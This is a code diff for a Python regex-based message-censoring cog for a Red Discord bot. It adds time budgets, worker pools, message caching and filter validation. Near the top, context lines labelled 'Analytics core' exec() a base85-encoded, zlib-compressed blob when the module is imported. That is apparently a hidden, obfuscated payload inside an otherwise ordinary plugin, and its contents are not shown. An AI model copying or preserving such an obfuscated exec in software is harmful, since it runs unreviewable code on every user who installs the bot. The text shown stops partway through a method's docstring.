@@ -1,5 +1,8 @@
+import aiohttp
+import argparse
 import asyncio
-from collections import defaultdict, OrderedDict
+from collections import Counter, defaultdict, deque, OrderedDict
+from concurrent.futures.process import BrokenProcessPool
 from datetime import datetime, timedelta
 import discord
 from discord import Message, Object as DiscordObject
@@ -8,20 +11,28 @@ from discord.ext import commands
 from discord.ext.commands.errors import BadArgument
 from discord.ext.commands.view import StringView
 from enum import Enum
-from functools import partial
+from functools import lru_cache, partial
 import inspect
+import io
 import itertools
+import json
 import logging
 import os
 import re
+import signal
+import tempfile
+import threading
 import time
-from typing import Callable, Hashable, Iterable, Iterator, List, Optional, Sequence, Set, Tuple, TypeVar, Union
+import types
+from typing import (Callable, FrozenSet, Hashable, Iterable, Iterator, List, Optional, Sequence, Set, Tuple, TypeVar,
+                    Union)
 import unicodedata
 import urllib.parse
+import weakref
 
 from .utils.dataIO import dataIO
 from .utils import checks
-from .utils.chat_formatting import box, warning, error, info
+from .utils.chat_formatting import box, warning, error, info, pagify
 
 # FIXME: once red#1956 is fixed, all OSes can use ProcessPool
 if os.name == 'nt':
@@ -34,6 +45,16 @@ try:
 except ImportError:
     unidecode = None
 
+try:
+    import yaml
+except ImportError:
+    yaml = None
+
+try:
+    from re import _parser as sre_parse
+except ImportError:  # Python < 3.11
+    import sre_parse
+
 # Analytics core
 import zlib, base64
 exec(zlib.decompress(base64.b85decode("""c-oB^YjfMU@w<No&NCTMHA`DgE_b6jrg7c0=eC!Z-Rs==JUobmEW{+iBS0ydO#XX!7Y|XglIx5;0)gG
@@ -71,9 +92,42 @@ logger = logging.getLogger('red.recensor')
 
 DATA_PATH = "data/recensor/"
 JSON_PATH = DATA_PATH + "regexen.json"
+STATS_PATH = DATA_PATH + "stats.json"
+STATS_SAVE_INTERVAL = 60 * 5  # 5 minutes
 DEFAULT_FLAGS = 'IS'
 MSG_HISTORY_MAX_NUM = 32
 MSG_HISTORY_MAX_TIME = 60 * 10  # 10 minutes
+MSG_CACHE_MAX_BYTES = 32 * 1024 * 1024  # estimated size of all message histories
+MSG_CACHE_SWEEP_INTERVAL = 60
+ELIGIBILITY_CACHE_SIZE = 1024  # distinct role combinations per server
+PRIVILEGE_CACHE_SIZE = 4096  # members per server
+CACHE_ENTRY_OVERHEAD = 200  # rough bytes per cached message or joined string, besides its text
+DELETE_BATCH_DELAY = 0.5  # seconds to collect deletions in a channel before sending them
+BULK_DELETE_MAX_NUM = 100
+FLASH_COALESCE_DELAY = 1.0  # seconds to collect hits in a channel before notifying
+FLASH_RATE_PERIOD = 60  # seconds, see ServerConfig.flash_rate
+FLASH_RATE_DEFAULT = 5  # notifications per channel (or DM) per FLASH_RATE_PERIOD
+FLASH_MAX_SEC = 60
+BULK_DELETE_MAX_AGE = 60 * 60 * 24 * 14 - 60  # 14 days, minus some leeway for clock skew
+ASCIIFY_CACHE_SIZE = 2048
+SHARED_PATTERN_CACHE_SIZE = 4096  # distinct library patterns and group gates compiled per process
+INLINE_CHECK_MAX_LEN = 48  # contents up to this length are checked on the event loop, by stress tested patterns
+INLINE_SAFE_CACHE_SIZE = 4096  # stress test results kept per process
+FILTER_TIME_BUDGET = 0.25  # seconds per filter run, enforced in worker processes
+FILTER_TIMEOUT_STRIKES = 3  # disable a filter after it exceeds the budget this many times
+FILTER_TIMING_SAMPLES = 256
+SHADOW_SAMPLES = 20  # most recent would-be actions kept for each shadow filter
+SHADOW_EXCERPT_LENGTH = 120
+IMPORT_MAX_BYTES = 1024 * 1024
+AUDIT_MAX_MESSAGES = 1000
+AUDIT_BATCH_SIZE = 100  # messages checked per executor job
+AUDIT_LISTED_MESSAGES = 30  # most recent would-be deletions listed by the audit
+IMPORT_STRESS_LENGTH = 2000  # Discord's message length limit
+SAVE_DELAY = 2  # seconds to wait for more changes before writing settings
+WARM_UP_DELAY = 5  # seconds after loading to start compiling filters in the background
+EXECUTOR_GRACE = 5  # extra seconds before a whole executor job is considered stuck
+VALIDATION_TIME = FILTER_TIME_BUDGET * 16  # seconds allowed per filter in a validation job
+EXECUTOR_POLL_INTERVAL = 0.05  # seconds between checks for a queued job having a free worker
 CONCAT_JOIN = '\n'
 
 DiscordUniObj = Union[DiscordObject, DiscordHashable]
@@ -81,6 +135,17 @@ T = TypeVar('T')
 HT = TypeVar('HT', bound=Hashable)
 SRE_Match = type(re.match('', ''))
 
+# Backreferences, conditionals and global inline flags break when a pattern is embedded in an alternation
+UNMERGEABLE_RE = re.compile(r'\\[1-9]|\(\?P=|\(\?\(|\(\?[aiLmsux]+\)')
+
+# Non-ASCII characters that match an ASCII letter under re.IGNORECASE, but don't lowercase to it
+IGNORECASE_FOLD = str.maketrans('\u0130\u0131\u017f\u212a', 'iisk')
+
+SRE_CONTEXT_OPS = {getattr(sre_parse, op) for op in ('ASSERT', 'ASSERT_NOT', 'GROUPREF', 'GROUPREF_EXISTS',
+                                                    'GROUPREF_IGNORE') if hasattr(sre_parse, op)}
+SRE_MAXWIDTH = getattr(sre_parse, 'MAXWIDTH', sre_parse.MAXREPEAT)
+SRE_REPEATS = {sre_parse.MAX_REPEAT, sre_parse.MIN_REPEAT, getattr(sre_parse, 'POSSESSIVE_REPEAT', None)}
+
 FLAGS_DESC = {
     'A': 'ASCII',
     'I': 'ignorecase',
@@ -132,6 +197,54 @@ EMOJI_LETTERS = dict(zip(
 ))
 
 
+class FilterTimeout(Exception):
+    """
+    Raised in a worker when a pattern exceeds FILTER_TIME_BUDGET
+    """
+    pass
+
+
+_timer_armed = False
+_executor_jobs = weakref.WeakKeyDictionary()  # executor: [jobs submitted, jobs finished], see ReCensor.run_task
+
+
+def _timer_handler(signum, frame):
+    if _timer_armed:
+        raise FilterTimeout()
+
+
+def setup_worker_timer() -> bool:
+    """
+    Installs the SIGALRM handler that enforces FILTER_TIME_BUDGET. Returns whether timing is possible,
+    which is only the case in the main thread of a worker process on platforms with setitimer.
+    """
+    if not hasattr(signal, 'setitimer') or threading.current_thread() is not threading.main_thread():
+        return False
+    elif signal.getsignal(signal.SIGALRM) is not _timer_handler:
+        signal.signal(signal.SIGALRM, _timer_handler)
+
+    return True
+
+
+def call_with_budget(func: Callable[[str], T], string: str, budget: Optional[float]) -> T:
+    """
+    Calls func(string), raising FilterTimeout if it runs longer than budget seconds.
+    A budget of None runs the call unrestricted. setup_worker_timer must have succeeded otherwise.
+    """
+    global _timer_armed
+
+    if not budget:
+        return func(string)
+
+    try:
+        _timer_armed = True
+        signal.setitimer(signal.ITIMER_REAL, budget)
+        return func(string)
+    finally:
+        _timer_armed = False
+        signal.setitimer(signal.ITIMER_REAL, 0)
+
+
 # Isolated to allow running potentially slow patterns in an executor
 def check_match(predicate: Callable[[str], Optional[SRE_Match]], string: str) -> dict:
     """
@@ -172,6 +285,8 @@ def check_match(predicate: Callable[[str], Optional[SRE_Match]], string: str) ->
 def check_match_iter(predicate: Callable[[str], Iterator[SRE_Match]], string: str) -> List[dict]:
     """
     Finditer match task worker.
+
+    Returns a dict per match, then one with only the time of the final search, which found nothing.
     """
     ret_list = []
     match_iter = predicate(string)
@@ -183,6 +298,7 @@ def check_match_iter(predicate: Callable[[str], Iterator[SRE_Match]], string: st
         try:
             match = next(match_iter)
         except StopIteration:
+            ret_list.append({'time': time.perf_counter() - t0})
             break
         except Exception as e:
             match = None
@@ -212,30 +328,295 @@ def check_match_iter(predicate: Callable[[str], Iterator[SRE_Match]], string: st
     return ret_list
 
 
-def check_matches(inputs: Iterable[Tuple[str, Callable[[str], dict], str, bool]], no_stop: bool = False) -> List[dict]:
+def search_from(compiled, pos: int, string: str) -> Optional[SRE_Match]:
     """
-    Call multiple check_match.
+    Searches string starting at pos, plus at the very start, where anchors and word boundaries change
+    when a MessageWindow drops its oldest messages.
+    """
+    return (pos and compiled.match(string)) or compiled.search(string, pos)
+
 
-    Takes an iterable of (callable, str, bool) pairs. Bool indicates whether to stop on a match.
-    If no_stop is True, run all matches regardless of bool in tuple.
-    Returns a list of data returned by each call of check_match.
+def check_filterset(filterset: 'FilterSet', inputs: Iterable[Tuple[str, Hashable, bool]], contents: dict,
+                    no_stop: bool = False, budget: Optional[float] = None, offsets: Optional[dict] = None
+                    ) -> List[Union[dict, List[dict]]]:
+    """
+    Call multiple check_match (or check_match_iter) using a FilterSet.
+
+    Takes an iterable of (name, content key, bool) tuples and a dict mapping content keys to strings.
+    Bool indicates whether to stop on a match. If no_stop is True, run all matches regardless of bool in tuple.
+    Filters that belong to a merged group are only run if the group's combined pattern matched.
+    If budget is set, each run is limited to that many seconds (see call_with_budget).
+    offsets maps names of resumable filters to the position their search starts from.
+    Returns a list of data returned by each predicate.
     """
+    gates = {}
     ret_list = []
 
-    for name, predicate, string, stop_on_match in inputs:
-        ret = predicate(string)
+    for name, content_key, stop_on_match in inputs:
+        string = contents[content_key]
+        group_key = filterset.members.get(name)
+
+        if group_key is not None:
+            if group_key not in gates:
+                try:
+                    gates[group_key] = call_with_budget(filterset.groups[group_key], string, budget) is not None
+                except Exception:
+                    gates[group_key] = True  # let the members report it individually
+
+            if not gates[group_key]:
+                ret_list.append({'name': name})
+                continue
+
+        if offsets and offsets.get(name):
+            predicate = partial(check_match, partial(search_from, filterset.resumable[name][0], offsets[name]))
+        else:
+            predicate = filterset.predicates[name]
+
+        try:
+            ret = call_with_budget(predicate, string, budget)
+        except FilterTimeout as e:  # fired after the predicate returned
+            ret = {'exception': e, 'time': budget}
 
         if isinstance(ret, dict):
             ret['name'] = name
 
         ret_list.append(ret)
 
-        if (stop_on_match and not no_stop) and (('match' in ret) if type(ret) is dict else len(ret)):
-            return ret_list
+        if (stop_on_match and not no_stop) and (('match' in ret) if type(ret) is dict else
+                                                any('match' in r for r in ret)):
+            break
 
     return ret_list
 
 
+def check_predicate(predicate: Callable[[str], Union[dict, List[dict]]], string: str) -> Union[dict, List[dict]]:
+    """
+    Executor entry point for a single filter's predicate, limited to FILTER_TIME_BUDGET like check_server
+    """
+    budget = FILTER_TIME_BUDGET if setup_worker_timer() else None
+
+    try:
+        return call_with_budget(predicate, string, budget)
+    except FilterTimeout as e:  # fired after the predicate returned
+        return {'exception': e, 'time': budget}
+
+
+# Per-process copies of each server's FilterSet, as (version, filterset)
+_worker_filtersets = {}
+
+
+def check_server(server_id: str, version: int, inputs: Sequence[Tuple[str, Hashable, bool]], contents: dict,
+                 no_stop: bool = False, filterset: 'FilterSet' = None, offsets: Optional[dict] = None
+                 ) -> Optional[Tuple[float, List[Union[dict, List[dict]]]]]:
+    """
+    Executor entry point for check_filterset.
+
+    Uses the copy of the server's FilterSet held by this worker, so only the contents need to be sent.
+    Returns None if the worker doesn't have the requested version, in which case the caller should
+    retry with the filterset argument, which replaces the stored copy.
+    Otherwise, returns the time spent in the worker and the results of check_filterset.
+    """
+    t0 = time.perf_counter()
+
+    if filterset is not None:
+        _worker_filtersets[server_id] = (version, filterset)
+    else:
+        stored_version, filterset = _worker_filtersets.get(server_id, (None, None))
+
+        if stored_version != version:
+            return None
+
+    budget = FILTER_TIME_BUDGET if setup_worker_timer() else None
+    results = check_filterset(filterset, inputs, contents, no_stop, budget, offsets)
+    return time.perf_counter() - t0, results
+
+
+def check_server_batch(server_id: str, version: int, jobs: Sequence[Tuple[Sequence[Tuple[str, Hashable, bool]], dict]],
+                       filterset: 'FilterSet' = None) -> Optional[List[List[Union[dict, List[dict]]]]]:
+    """
+    Executor entry point for running check_server on many (inputs, contents) jobs at once.
+
+    Returns None if the worker doesn't have the requested version (see check_server), or else the
+    results of check_filterset for each job.
+    """
+    ret = []
+
+    for inputs, contents in jobs:
+        results = check_server(server_id, version, inputs, contents, filterset=filterset)
+
+        if results is None:
+            return None
+
+        filterset = None  # stored by the first job
+        ret.append(results[1])
+
+    return ret
+
+
+def merge_ruled_out(checks: Sequence[Tuple[str, Hashable, bool]], ruled_out: Set[str],
+                    results: Sequence[Union[dict, List[dict]]]) -> List[Union[dict, List[dict]]]:
+    """
+    Merges the results of the checks that weren't ruled out back in order, stopping where they stopped
+    """
+    results = iter(results)
+    ret_list = []
+
+    for name, _, _ in checks:
+        if name in ruled_out:
+            ret_list.append({'name': name})
+        else:
+            try:
+                ret_list.append(next(results))
+            except StopIteration:
+                break
+
+    return ret_list
+
+
+FILTER_DATA_TYPES = {
+    'pattern'            : (str,),
+    'flags'              : (str,),
+    'mode'               : (bool,),
+    'enabled'            : (bool,),
+    'shadow'             : (bool,),
+    'override'           : (bool,),
+    'priv_exempt'        : (bool, type(None)),
+    'asciify'            : (bool, type(None)),
+    'position'           : (str,),
+    'multi_msg'          : (bool,),
+    'multi_msg_join'     : (str,),
+    'multi_msg_group'    : (int,),
+    'attachment_header'  : (bool,),
+    'flash_msg'          : (str, bool),
+    'flash_dm'           : (bool,),
+    'flash_sec'          : (int,),
+    'channels_list'      : (dict,),
+    'roles_list'         : (dict,),
+    'channels_list_link' : (str,),
+    'roles_list_link'    : (str,),
+    'library'            : (list,)
+}
+
+LIST_DATA_TYPES = {
+    'enabled' : (bool,),
+    'mode'    : (bool,),
+    'overlay' : (bool, type(None)),
+    'items'   : (list,)
+}
+
+
+def check_filter_data(data) -> List[str]:
+    """
+    Returns a list of problems with a filter's data, as found in an import file
+    """
+    if type(data) is not dict:
+        return ['expected a mapping of settings']
+
+    problems = []
+
+    for k, v in data.items():
+        types = FILTER_DATA_TYPES.get(k)
+
+        if not types:
+            problems.append('unknown setting %r' % k)
+        elif not isinstance(v, types) or (type(v) is bool and bool not in types):
+            problems.append('%s must be %s' % (k, ' or '.join(t.__name__ for t in types)))
+
+    if 'pattern' not in data:
+        problems.append('no pattern')
+
+    if problems:
+        return problems
+
+    if set(data.get('flags', '')).difference(FLAGS_DESC):
+        problems.append('unknown flags: %s' % ''.join(sorted(set(data['flags']).difference(FLAGS_DESC))))
+
+    if data.get('position', POSITION.ANYWHERE.value) not in {p.value for p in POSITION}:
+        problems.append('position must be one of %s' % ', '.join(p.value for p in POSITION))
+
+    if data.get('multi_msg_group', 0) < 0 or data.get('flash_sec', 0) < -1:
+        problems.append('multi_msg_group must be 0 or more, and flash_sec -1 or more')
+
+    for list_name in ['channels_list', 'roles_list']:
+        if list_name in data and list_name + '_link' in data:
+            problems.append('%s can be either a list or a link, not both' % list_name)
+
+        for k, v in data.get(list_name, {}).items():
+            types = LIST_DATA_TYPES.get(k)
+
+            if not types:
+                problems.append('unknown %s setting %r' % (list_name, k))
+            elif not isinstance(v, types):
+                problems.append('%s %s must be %s' % (list_name, k, ' or '.join(t.__name__ for t in types)))
+            elif k == 'items' and not all(type(i) is str and i.isdigit() for i in v):
+                problems.append('%s items must be ID strings' % list_name)
+
+    return problems
+
+
+def stress_inputs(compiled) -> List[str]:
+    """
+    Returns message-sized strings likely to trigger catastrophic backtracking: long runs of common
+    characters and of the pattern's own literals, each followed by something that breaks the run.
+    """
+    runs = ['a', 'A', '0', ' ', '\n', 'ab', 'a ', '.']
+    literals = required_literals(compiled)
+
+    if literals:
+        runs.extend(sorted(literals[1])[:4])
+
+    return [(run * (IMPORT_STRESS_LENGTH // len(run)))[:IMPORT_STRESS_LENGTH - 1] + '\x00' for run in runs]
+
+
+def validate_filter(data: dict) -> Optional[str]:
+    """
+    Import task worker.
+
+    Compiles a filter's pattern and runs it against stress_inputs, each within FILTER_TIME_BUDGET.
+    Returns a description of the problem, or None if the filter is usable.
+    """
+    try:
+        compiled = re.compile(data.get('pattern', ''), flags_to_int(data.get('flags', DEFAULT_FLAGS)))
+    except re.error as e:
+        return 'error compiling pattern: %s' % e
+
+    match_func = get_match_func(compiled, POSITION(data.get('position', POSITION.ANYWHERE)))
+    budget = FILTER_TIME_BUDGET if setup_worker_timer() else None
+
+    for string in stress_inputs(compiled):
+        t0 = time.perf_counter()
+
+        try:
+            call_with_budget(match_func, string, budget)
+        except FilterTimeout:
+            pass
+
+        # measured as well, since threads (on Windows) can't be interrupted
+        if time.perf_counter() - t0 >= FILTER_TIME_BUDGET:
+            return 'pattern took over %ims on a %i character stress test (%r...)' \
+                   % (FILTER_TIME_BUDGET * 1000, len(string), string[:8])
+
+    return None
+
+
+def validate_filters(filters: Sequence[dict]) -> List[Optional[str]]:
+    """
+    Validation task worker: validate_filter for many filters in one job.
+    """
+    return [validate_filter(data) for data in filters]
+
+
+def terminate_executor(executor):
+    """
+    Shuts down an executor without waiting, killing its worker processes. Threads can't be killed,
+    so a ThreadPoolExecutor is just abandoned.
+    """
+    for process in list((getattr(executor, '_processes', None) or {}).values()):
+        process.terminate()
+
+    executor.shutdown(wait=False)
+
+
 def concat_with_keys(strings: Sequence[str], join: str = CONCAT_JOIN) -> Tuple[str, List[int]]:
     """
     Returns the concatenated string (joined on `join`) and a list of the end position of each string in the output
@@ -296,14 +677,37 @@ def ellipsize(string: str, to_length: int = None, by: int = None) -> str:
 
     if strlen <= to_length:
         return string
+    elif to_length < 3:
+        return string[:max(0, to_length)]
 
-    pos1 = (strlen // 2) - 1
-    pos2 = pos1 + 3
+    pos1 = (to_length - 3) // 2
+    pos2 = strlen - (to_length - 3 - pos1)
 
     return string[:pos1] + "..." + string[pos2:]
 
 
+if hasattr(str, 'isascii'):
+    is_ascii = str.isascii
+else:  # Python < 3.7
+    def is_ascii(string: str) -> bool:
+        try:
+            string.encode('ascii')
+        except UnicodeEncodeError:
+            return False
+
+        return True
+
+
 def asciify_string(string: str) -> str:
+    # Nothing to strip or substitute, and unidecode would return it unchanged
+    if is_ascii(string):
+        return string
+
+    return _asciify_string(string)
+
+
+@lru_cache(maxsize=ASCIIFY_CACHE_SIZE)
+def _asciify_string(string: str) -> str:
     # Strip marks/combining characters
     string = (c for c in string if not unicodedata.category(c).startswith('M'))
 
@@ -312,18 +716,141 @@ def asciify_string(string: str) -> str:
 
     # Run through unidecode, if available
     if unidecode:
-        return unidecode.unidecode(string)
+        return unidecode(string)
 
     return string
 
 
-def preprocess_msg(_filter, message):
-    if _filter.attachment_header and message.attachments:
-        return '{attachment:%s}%s' % (message.attachments[0]['filename'], message.content)
+def preprocess_msg(message, attachment_header: bool = False, asciify: bool = False) -> str:
+    """
+    Returns the content a filter with the given settings is matched against
+    """
+    if attachment_header and message.attachments:
+        content = '{attachment:%s}%s' % (message.attachments[0]['filename'], message.content)
     elif message.content.startswith('{attachment:'):
-        return '{' + message.content
+        content = '{' + message.content
+    else:
+        content = message.content
+
+    if asciify:
+        content = asciify_string(content)
+
+    return content
+
+
+def content_digest(message) -> int:
+    """
+    Hash of everything preprocess_msg reads from a message
+    """
+    filename = message.attachments[0]['filename'] if message.attachments else None
+    return hash((message.content, filename))
+
+
+def _required_literals(subpattern) -> Optional[Set[str]]:
+    """
+    Returns a set of strings, at least one of which appears in any match of the parsed subpattern.
+    """
+    candidates = []
+    run = []
+
+    for op, av in subpattern:
+        if op is sre_parse.LITERAL:
+            run.append(chr(av))
+            continue
+        elif run:
+            candidates.append({''.join(run)})
+            run.clear()
+
+        if op is sre_parse.SUBPATTERN:
+            if len(av) == 4 and (av[1] or av[2]):  # scoped flags
+                continue
+
+            required = _required_literals(av[-1])
+        elif op is sre_parse.BRANCH:
+            branches = [_required_literals(b) for b in av[1]]
+            required = set().union(*branches) if all(branches) else None
+        elif op in SRE_REPEATS:
+            required = _required_literals(av[2]) if av[0] else None
+        elif op is getattr(sre_parse, 'ATOMIC_GROUP', None):
+            required = _required_literals(av)
+        else:
+            required = None
+
+        if required:
+            candidates.append(required)
+
+    if run:
+        candidates.append({''.join(run)})
+
+    if not candidates:
+        return None
+
+    # Prefer the most selective set: longest shortest member, then fewest members
+    return max(candidates, key=lambda c: (min(map(len, c)), -len(c)))
+
+
+def required_literals(compiled) -> Optional[Tuple[bool, FrozenSet[str]]]:
+    """
+    Extracts literal substrings from a compiled pattern, at least one of which must be present in the
+    searched string for it to match.
+
+    Returns a (fold, literals) tuple or None if nothing useful could be extracted. If fold is True, the
+    literals are lowercase and must be compared against a string passed through fold_string.
+    """
+    if compiled.flags & re.LOCALE:
+        return None
+
+    try:
+        literals = _required_literals(sre_parse.parse(compiled.pattern, compiled.flags))
+    except Exception:
+        logger.exception('error extracting literals from pattern %r' % compiled.pattern)
+        return None
+
+    if not literals:
+        return None
+    elif not compiled.flags & re.IGNORECASE:
+        return False, frozenset(literals)
+    elif any(ord(c) > 127 for literal in literals for c in literal):
+        return None  # case folding rules are too complex to reproduce for non-ASCII
     else:
-        return message.content
+        return True, frozenset(literal.lower() for literal in literals)
+
+
+def _uses_context(av) -> bool:
+    """
+    Returns True if any part of the parsed pattern looks outside of its own match
+    """
+    if isinstance(av, sre_parse.SubPattern):
+        return any(op in SRE_CONTEXT_OPS or _uses_context(a) for op, a in av)
+    elif isinstance(av, (tuple, list)):
+        return any(_uses_context(a) for a in av)
+
+    return False
+
+
+def max_match_width(compiled) -> Optional[int]:
+    """
+    Returns the maximum length of a match of a compiled pattern, or None if it's unbounded or the pattern
+    uses lookarounds or backreferences.
+
+    Such a pattern can only see the characters it matches plus their immediate neighbours (for anchors and
+    word boundaries), which is what lets a MessageWindow resume a search near the end of its content.
+    """
+    try:
+        parsed = sre_parse.parse(compiled.pattern, compiled.flags)
+    except Exception:
+        logger.exception('error measuring pattern %r' % compiled.pattern)
+        return None
+
+    if _uses_context(parsed):
+        return None
+
+    width = parsed.getwidth()[1]
+    return width if width < SRE_MAXWIDTH else None
+
+
+def fold_string(string: str) -> str:
+    return string.translate(IGNORECASE_FOLD).lower()
 
 
 # https://stackoverflow.com/a/11564323
@@ -338,69 +865,555 @@ def topological_sort(source: Iterable[Tuple[HT, Sequence[HT]]]) -> Iterator[HT]:
     pending = [(name, set(deps)) for name, deps in source]
     emitted = []
 
-    while pending:
-        next_pending = []
-        next_emitted = []
+    while pending:
+        next_pending = []
+        next_emitted = []
+
+        for entry in pending:
+            name, deps = entry
+            deps.difference_update(emitted)  # remove deps we emitted last pass
+
+            if deps:  # still has deps? recheck during next pass
+                next_pending.append(entry)
+            else:  # no more deps? time to emit
+                yield name
+                emitted.append(name)  # <-- not required, but helps preserve original ordering
+                next_emitted.append(name)  # remember what we emitted for difference_update() in next pass
+
+        if not next_emitted:  # all entries have unmet dependencies, one of two things is wrong...
+            raise ValueError("cyclic or missing dependency detected: %r" % (next_pending,))
+
+        pending = next_pending
+        emitted = next_emitted
+
+
+class POSITION(Enum):
+    START = 'start'
+    FULL = 'full'
+    ANYWHERE = 'anywhere'
+
+
+#  -> Optional[Type[DiscordUniObj]], but it breaks 3.5
+def type_from_name(list_name: str):
+    for k in DATACLASSES_BY_NAME:
+        k = k.lower()
+        if list_name.startswith(k):
+            return DATACLASSES_BY_NAME[k]
+
+    return None
+
+
+def flags_to_int(flag_chars):
+    flags = 0
+
+    for c in flag_chars:
+        flags |= getattr(re, c.upper(), 0)
+
+    return flags
+
+
+def get_match_func(compiled, position: POSITION) -> Callable[[str], Optional[SRE_Match]]:
+    if position == POSITION.START:
+        return compiled.match
+    elif position == POSITION.FULL:
+        return compiled.fullmatch
+    elif position == POSITION.ANYWHERE:
+        return compiled.search
+    else:
+        raise ValueError("Unknown position value: %s" % position)
+
+
+@lru_cache(maxsize=SHARED_PATTERN_CACHE_SIZE)
+def shared_pattern(pattern: str, flags: int):
+    """
+    Compiles a library pattern (or a FilterSet's group gate) once per process, for every server using it
+    """
+    return re.compile(pattern, flags)
+
+
+class SharedMatch:
+    """
+    Match function of a library pattern (see FilterLibrary) or of a FilterSet's group gate.
+
+    Only the pattern, flags and position are pickled, so each process that unpickles a FilterSet
+    looks the compiled pattern up with shared_pattern instead of holding a copy per server.
+    """
+    __slots__ = ['pattern', 'flags', 'position', '_func']
+
+    def __init__(self, pattern: str, flags: int, position: POSITION):
+        self.pattern = pattern
+        self.flags = flags
+        self.position = position
+        self._func = get_match_func(shared_pattern(pattern, flags), position)
+
+    def __call__(self, string: str) -> Optional[SRE_Match]:
+        return self._func(string)
+
+    def __getstate__(self):
+        return self.pattern, self.flags, self.position
+
+    def __setstate__(self, state):
+        self.__init__(*state)
+
+
+class BoundedOrderedDict(OrderedDict):
+    __slots__ = ['_maxlen']
+
+    def __init__(self, iterable: Sequence = (), maxlen=None):
+        self._maxlen = maxlen
+        super().__init__(iterable)
+
+    @property
+    def maxlen(self):
+        return self._maxlen
+
+    def __setitem__(self, key, value):
+        if not self.__contains__(key) and len(self) == self._maxlen:
+            self.popitem(last=False)
+
+        super().__setitem__(key, value)
+
+
+class CachedMessage:
+    """
+    What multi-message filtering needs from a message, stored in a MessageWindow instead of the Message.
+
+    Author, channel and server are objects the client keeps anyway. Only the first attachment's filename
+    is kept, for preprocess_msg; the preprocessed forms live in the window's JoinedContents. digest is the
+    content_digest of the message as it was last scanned.
+    """
+    __slots__ = ['id', 'timestamp', 'content', 'attachments', 'author', 'channel', 'server', 'digest']
+
+    def __init__(self, message: Message):
+        self.id = message.id
+        self.timestamp = message.timestamp
+        self.content = message.content
+        self.attachments = tuple({'filename': a['filename']} for a in message.attachments[:1])
+        self.author = message.author
+        self.channel = message.channel
+        self.server = message.server
+        self.digest = content_digest(message)
+
+    @property
+    def size(self) -> int:
+        return CACHE_ENTRY_OVERHEAD + len(self.content)
+
+
+class JoinedContent:
+    """
+    The joined content of a MessageWindow for one (asciify, join, attachment header) key.
+
+    offsets maps filter names to the position their next search can start from: no match begins before
+    it, no matter what is appended later.
+    """
+    __slots__ = ['join', 'ids', 'content', 'indices', 'offsets']
+
+    def __init__(self, join: str):
+        self.join = join
+        self.ids = []
+        self.content = ''
+        self.indices = []
+        self.offsets = {}
+
+    def trim(self, count: int):
+        """
+        Drops the first count messages
+        """
+        if count >= len(self.ids):
+            self.ids.clear()
+            self.content = ''
+            self.indices.clear()
+            self.offsets.clear()
+            return
+        elif not count:
+            return
+
+        shift = self.indices[count - 1] + len(self.join)
+        del self.ids[:count]
+        self.content = self.content[shift:]
+        self.indices = [i - shift for i in self.indices[count:]]
+        self.offsets = {k: max(0, v - shift) for k, v in self.offsets.items()}
+
+    def extend(self, ids: Sequence[str], strings: Sequence[str]):
+        """
+        Appends message contents to the end
+        """
+        parts = [self.content]
+        end = len(self.content)
+
+        for message_id, string in zip(ids, strings):
+            if self.ids:
+                parts.append(self.join)
+                end += len(self.join)
+
+            parts.append(string)
+            end += len(string)
+            self.ids.append(message_id)
+            self.indices.append(end)
+
+        self.content = ''.join(parts)
+
+
+class MessageWindow(BoundedOrderedDict):
+    """
+    A (channel, author) message history that keeps its joined contents between checks.
+
+    New messages are appended to the joined strings and expired ones are cut from the front, so
+    check_sequence only has to preprocess the messages it hasn't seen. Replacing a message (an edit)
+    discards everything, as would anything other than adding and removing at the ends.
+    """
+    __slots__ = ['joins', 'version']
+
+    def __init__(self, iterable: Sequence = (), maxlen=None):
+        self.joins = {}
+        self.version = None
+        super().__init__(iterable, maxlen=maxlen)
+
+    def __setitem__(self, key, value):
+        if self.__contains__(key):
+            self.invalidate()
+
+        super().__setitem__(key, value)
+
+    def invalidate(self):
+        self.joins.clear()
+
+    @property
+    def size(self) -> int:
+        """
+        Estimated memory use in bytes
+        """
+        return sum(m.size for m in self.values()) + sum(CACHE_ENTRY_OVERHEAD + len(e.content)
+                                                        for e in self.joins.values())
+
+    def expire(self, cutoff: datetime):
+        """
+        Drops messages sent at or before cutoff
+        """
+        for message_obj in list(self.values()):
+            if message_obj.timestamp > cutoff:
+                break
+            else:
+                self.popitem(last=False)  # popleft
+
+    def update_offsets(self, filterset: 'FilterSet', checks: Sequence[Tuple[str, Hashable, bool]],
+                       results: Sequence[Union[dict, List[dict]]], contents: dict, snapshots: dict):
+        """
+        Records where resumable filters that found nothing can start their next search.
+
+        snapshots maps content keys to (JoinedContent, tuple of its ids) as they were when contents were
+        taken. The window can change while the checks run, so entries that don't match are left alone.
+        """
+        if self.version != filterset.version:
+            return
+
+        for (name, content_key, _), ret in zip(checks, results):
+            if name not in filterset.resumable or type(ret) is not dict or 'match' in ret or 'exception' in ret:
+                continue
+
+            entry, ids = snapshots[content_key]
+
+            if self.joins.get(content_key) is not entry or tuple(entry.ids) != ids:
+                continue
+
+            # a new match has to reach the current end, or the character before it (for anchors)
+            width = filterset.resumable[name][1]
+            entry.offsets[name] = max(0, len(contents[content_key]) - width - 2)
+
+    def get_joined(self, key: Hashable, join: str, messages: Sequence[Message],
+                   preprocess: Callable[[Message], str]) -> JoinedContent:
+        """
+        Returns the JoinedContent for key, brought up to date with `messages` (the current values)
+        """
+        entry = self.joins.get(key)
+
+        if entry is None:
+            entry = self.joins[key] = JoinedContent(join)
+
+        ids = [m.id for m in messages]
+        old_ids = entry.ids
+
+        # find where the current window starts in the old one
+        start = 0
+        while start < len(old_ids) and old_ids[start] != ids[0]:
+            start += 1
+
+        kept = len(old_ids) - start
+
+        if old_ids[start:] != ids[:kept]:
+            start, kept = len(old_ids), 0
+
+        entry.trim(start)
+        entry.extend(ids[kept:], [preprocess(m) for m in messages[kept:]])
+        return entry
+
+
+class MessageCache(OrderedDict):
+    """
+    MessageWindows by (channel ID, author ID), least recently used first.
+
+    Windows are created on access. sweep() expires old messages, drops empty windows and then evicts the
+    least recently used ones until the estimated total size is within max_bytes.
+    """
+    __slots__ = ['max_bytes', 'size', 'evictions']
+
+    def __init__(self, max_bytes: int):
+        self.max_bytes = max_bytes
+        self.size = 0
+        self.evictions = 0
+        super().__init__()
+
+    def __missing__(self, key):
+        window = self[key] = MessageWindow(maxlen=MSG_HISTORY_MAX_NUM)
+        return window
+
+    def get_window(self, key: Tuple[str, str]) -> MessageWindow:
+        """
+        Returns the window for key, creating it if needed and marking it as most recently used
+        """
+        window = self[key]
+        self.move_to_end(key)
+        return window
+
+    def sweep(self, max_age: float = MSG_HISTORY_MAX_TIME) -> int:
+        """
+        Returns the number of windows removed
+        """
